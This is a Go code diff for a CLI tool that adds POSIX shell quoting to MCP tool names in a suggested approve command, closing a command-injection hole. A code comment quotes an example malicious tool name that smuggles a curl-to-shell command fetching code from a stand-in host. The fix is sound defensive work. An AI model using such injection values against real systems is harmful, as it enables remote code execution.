@@ -296,7 +296,7 @@ func (c *clientCLI) mcpToolsTable(v *cliMCPToolsView) error {
 			r.allowed = "yes"
 		}
 		if state == cliMCPStateChanged || state == cliMCPStateNew {
-			waiting = append(waiting, r.name)
+			waiting = append(waiting, cliShellWord(r.name))
 		}
 		rows = append(rows, r)
 	}
@@ -339,11 +339,24 @@ func (c *clientCLI) mcpToolsTable(v *cliMCPToolsView) error {
 		fmt.Fprintf(c.e.stderr, "No tools seen on %s yet: they are recorded when an MCP client lists them (tools/list).\n", conn)
 	case len(waiting) > 0:
 		fmt.Fprintf(c.e.stderr, "%d tool(s) hidden and refused until approved (CHANGED or NEW); after checking their definitions (-o json):\n  gatehouse mcp approve %s %s\n",
-			len(waiting), conn, strings.Join(waiting, " "))
+			len(waiting), cliShellWord(conn), strings.Join(waiting, " "))
 	case !v.PinTools:
 		fmt.Fprintf(c.e.stderr, "%s does not pin its tools (mcp_pin_tools is not \"true\"): a changed tool is not held back.\n", conn)
 	}
 	return nil
+}
+
+// cliShellWord quotes s for a POSIX shell unless it is plainly safe: the tool names in
+// the suggested approve command come from the MCP server, and one called
+// "x; curl evil.example | sh" must stay one argument when the line is pasted.
+func cliShellWord(s string) string {
+	if s != "" && !strings.ContainsFunc(s, func(r rune) bool {
+		return !(r < utf8.RuneSelf && (r == '_' || r == '-' || r == '.' || r == '/' || r == ':' || r == '@' || r == '+' || r == '=' || r == ',' ||
+			('a' <= r && r <= 'z') || ('A' <= r && r <= 'Z') || ('0' <= r && r <= '9')))
+	}) {
+		return s
+	}
+	return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'"
 }
 
 // width is the width of the output: COLUMNS when set to a number, else the terminal's
